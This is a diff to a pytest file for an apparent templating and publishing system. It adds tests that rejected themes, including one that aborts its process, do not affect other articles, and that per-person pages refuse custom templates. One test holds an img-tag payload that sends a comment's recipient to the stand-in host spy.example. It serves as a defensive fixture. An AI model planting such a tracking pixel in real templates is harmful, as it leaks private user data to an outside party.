@@ -2,6 +2,7 @@
 
 import pytest
 
+from adapters import trial
 from tests.paper import Paper
 
 ARTICLE = "---\ntitle: Lunch is postponed\ndate: 2026-11-20\n---\nNobody was hungry.\n"
@@ -36,6 +37,26 @@ def test_a_broken_template_is_refused_by_its_line_and_the_one_before_stays(korea
     assert receipt["status"] == "rejected"
     assert receipt["problems"][0]["line"] == 2
     assert '<div class="ours">' in (korea.page(ADDRESS) or "")
+
+
+def test_a_theme_that_ends_its_process_is_rejected_and_takes_no_neighbour_along(
+    korea: Paper, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    crash = "import os\nfrom adapters import trial\ntrial.manuscript.read = lambda *_: os.abort()\ntrial.answer()"
+    monkeypatch.setattr(trial, "PROGRAM", ("-c", crash))
+    korea.upload("theme/article.html", OWN)
+    korea.upload("articles/next.md", ARTICLE.replace("Lunch", "Supper"))
+    receipt = korea.receipt("theme/article.html")
+    assert receipt["status"] == "rejected"
+    assert "make it simpler" in receipt["problems"][0]["message"]
+    assert status(korea, "articles/next.md") == "published"
+
+
+def test_pages_made_for_one_person_have_no_theme(korea: Paper) -> None:
+    korea.upload("theme/moderate.html", '<img src="https://spy.example/{{ comment.post_to }}">')
+    receipt = korea.receipt("theme/moderate.html")
+    assert receipt["status"] == "rejected"
+    assert "always drawn with the built-in template" in receipt["problems"][0]["message"]
 
 
 def test_a_deleted_template_gives_its_place_back(korea: Paper) -> None:
